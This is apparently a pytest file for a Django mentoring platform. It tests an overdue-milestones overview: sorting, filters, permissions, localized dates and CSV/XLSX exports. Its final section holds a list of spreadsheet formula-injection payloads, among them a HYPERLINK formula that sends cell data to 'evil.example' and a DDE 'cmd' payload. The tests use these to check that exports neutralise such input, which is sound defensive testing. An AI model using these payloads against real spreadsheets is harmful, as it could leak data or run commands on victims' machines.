"""The officers' overview of overdue milestones across the programme."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kizuna.mentoring.domain.plans import plan_create_for
from kizuna.mentoring.models import Milestone
from kizuna.mentoring.queries.plans import overdue_milestones
from kizuna.organisations.models import IndustryGroup

from .conftest import make_org, make_pairing

TODAY = timezone.localdate()


def overdue_plan(round_, organisation_factory, n: int, *, days: int, group: str = "auto_parts", done: int = 0):
    """A plan whose kick-off fell due `days` ago and is not done (its other milestones later)."""
    mentor = make_org(organisation_factory, country="JP", name=f"Mentor {n}", name_ja=f"メンター{n}")
    mentee = make_org(organisation_factory, country="TH", name=f"SME {n}", name_th=f"เอสเอ็มอี {n}", group=group)
    plan = plan_create_for(pairing=make_pairing(round_, mentor, mentee))
    for i, m in enumerate(plan.milestones.order_by("order")):
        m.due = TODAY - dt.timedelta(days=days) + dt.timedelta(days=100 * i)
        m.done_on = m.due if i < done else None
        m.save()
    return plan


@pytest.fixture
def three_overdue(bb_round, organisation_factory):
    return [
        overdue_plan(bb_round, organisation_factory, 1, days=5),
        overdue_plan(bb_round, organisation_factory, 2, days=40, group="food"),
        overdue_plan(bb_round, organisation_factory, 3, days=12),
    ]


def test_overdue_lists_open_past_due_milestones_most_overdue_first(three_overdue):
    rows = overdue_milestones(today=TODAY)
    assert [(r.pairing.mentee.name, r.days_overdue) for r in rows] == [("SME 2", 40), ("SME 3", 12), ("SME 1", 5)]
    assert {r.milestone.kind for r in rows} == {"kick_off"}


def test_overdue_sorted_least_overdue_first(three_overdue):
    assert [r.days_overdue for r in overdue_milestones(today=TODAY, sort="days")] == [5, 12, 40]


def test_overdue_leaves_out_done_milestones_and_completed_plans(bb_round, organisation_factory):
    overdue_plan(bb_round, organisation_factory, 1, days=5, done=1)
    completed = overdue_plan(bb_round, organisation_factory, 2, days=5)
    completed.completed_at = timezone.now()
    completed.save()
    assert overdue_milestones(today=TODAY) == []


def test_overdue_filters_by_industry_group(three_overdue):
    food = IndustryGroup.objects.get(code="food")
    assert [r.pairing.mentee.name for r in overdue_milestones(today=TODAY, industry_group=food.pk)] == ["SME 2"]


def test_overdue_page_is_for_officers_and_viewers(client, three_overdue, officer, viewer, mentor_rep):
    url = reverse("mentoring:overdue")
    client.force_login(mentor_rep)
    assert client.get(url).status_code == 403
    client.force_login(viewer)
    assert client.get(url).status_code == 200
    client.force_login(officer)
    assert client.get(url).status_code == 200


def test_overdue_page_shows_due_dates_in_the_readers_calendar(client, three_overdue, officer):
    officer.language = "th"
    officer.save()
    client.force_login(officer)
    html = client.get(reverse("mentoring:overdue")).content.decode()
    due = TODAY - dt.timedelta(days=40)
    from kizuna.common.i18n import THAI_MONTHS

    assert f"{due.day} {THAI_MONTHS[due.month - 1]} {due.year + 543}" in html
    assert "เอสเอ็มอี 2" in html


def test_overdue_page_filters_by_group_and_sorts(client, three_overdue, officer):
    client.force_login(officer)
    food = IndustryGroup.objects.get(code="food")
    rows = client.get(reverse("mentoring:overdue"), {"group": food.pk}).context["rows"]
    assert [r.pairing.mentee.name for r in rows] == ["SME 2"]
    rows = client.get(reverse("mentoring:overdue"), {"sort": "days"}).context["rows"]
    assert [r.days_overdue for r in rows] == [5, 12, 40]


def test_overdue_page_htmx_answers_the_table_only(client, three_overdue, officer):
    client.force_login(officer)
    html = client.get(reverse("mentoring:overdue"), HTTP_HX_REQUEST="true").content.decode()
    assert "<table" in html and "<html" not in html


def test_overdue_page_filters_by_programme(client, three_overdue, officer, bb_programme):
    client.force_login(officer)
    assert len(client.get(reverse("mentoring:overdue"), {"programme": bb_programme.code}).context["rows"]) == 3
    assert client.get(reverse("mentoring:overdue"), {"programme": "nope"}).status_code == 404


def test_overdue_csv_is_in_the_officers_language(client, three_overdue, officer):
    officer.language = "ja"
    officer.save()
    client.force_login(officer)
    response = client.get(reverse("mentoring:overdue"), {"format": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 4
    first = rows[1]
    due = TODAY - dt.timedelta(days=40)
    assert first[1:3] == ["メンター2", "SME 2"]
    assert first[5:] == [f"{due.year}年{due.month}月{due.day}日", "40"]


def test_overdue_xlsx_export(client, three_overdue, officer):
    client.force_login(officer)
    response = client.get(reverse("mentoring:overdue"), {"format": "xlsx", "sort": "days"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("Milestone", "Mentor", "Thai SME", "Industry group", "Programme", "Due date", "Days overdue")
    assert [row[6] for row in values[1:]] == [5, 12, 40]
    assert values[1][0] == "Kick-off meeting"


def _page_queries(client, officer) -> int:
    client.force_login(officer)
    client.get(reverse("mentoring:overdue"))  # the first request of a session also saves the language
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(reverse("mentoring:overdue"))
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_overdue_page_query_count_does_not_grow_with_rows(client, bb_round, organisation_factory, officer):
    overdue_plan(bb_round, organisation_factory, 1, days=5)
    one = _page_queries(client, officer)
    overdue_plan(bb_round, organisation_factory, 2, days=6)
    overdue_plan(bb_round, organisation_factory, 3, days=7)
    three = _page_queries(client, officer)
    assert len(overdue_milestones(today=TODAY)) == 3
    assert one == three == 5  # 4 + the header's unread-notifications count (rounds)


def test_milestone_done_removes_it_from_the_overview(client, three_overdue, officer):
    m = Milestone.objects.filter(plan=three_overdue[0], kind="kick_off").get()
    client.force_login(officer)
    client.post(reverse("mentoring:plan-milestone-done", args=[three_overdue[0].pk, m.pk]),
                {"done_on": TODAY.isoformat()})
    assert [r.pairing.mentee.name for r in overdue_milestones(today=TODAY)] == ["SME 2", "SME 3"]


# Text that companies write (milestone titles, company names) must not run as a
# formula in the officer's spreadsheet (#10): the export goes through common/exports.py.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def poisoned(bb_round, organisation_factory):
    plans = []
    for n, payload in enumerate(FORMULA_PAYLOADS, start=1):
        plan = overdue_plan(bb_round, organisation_factory, n, days=n)
        kick_off = plan.milestones.get(kind="kick_off")
        kick_off.title = payload
        kick_off.save()
        mentee = plan.pairing.mentee
        mentee.name = mentee.name_en = mentee.name_th = payload
        mentee.save()
        plans.append(plan)
    return plans


def test_overdue_csv_quotes_formula_payloads_in_titles_and_names(client, poisoned, officer):
    client.force_login(officer)
    response = client.get(reverse("mentoring:overdue"), {"format": "csv", "sort": "days"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [(r[0], r[2]) for r in rows[1:]] == [("'" + p, "'" + p) for p in FORMULA_PAYLOADS]
    assert [r[6] for r in rows[1:]] == ["1", "2", "3", "4", "5", "6"]


def test_overdue_xlsx_writes_formula_payloads_as_text(client, poisoned, officer):
    client.force_login(officer)
    response = client.get(reverse("mentoring:overdue"), {"format": "xlsx", "sort": "days"})
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [c.data_type for row in rows for c in row if c.data_type == "f"] == []
    # XML reads a carriage return back as a line feed
    expected = [p.replace("\r", "\n") for p in FORMULA_PAYLOADS]
    assert [(row[0].value, row[0].data_type) for row in rows] == [(p, "s") for p in expected]
    assert [(row[2].value, row[2].data_type) for row in rows] == [(p, "s") for p in expected]
    assert [row[6].value for row in rows] == [1, 2, 3, 4, 5, 6]
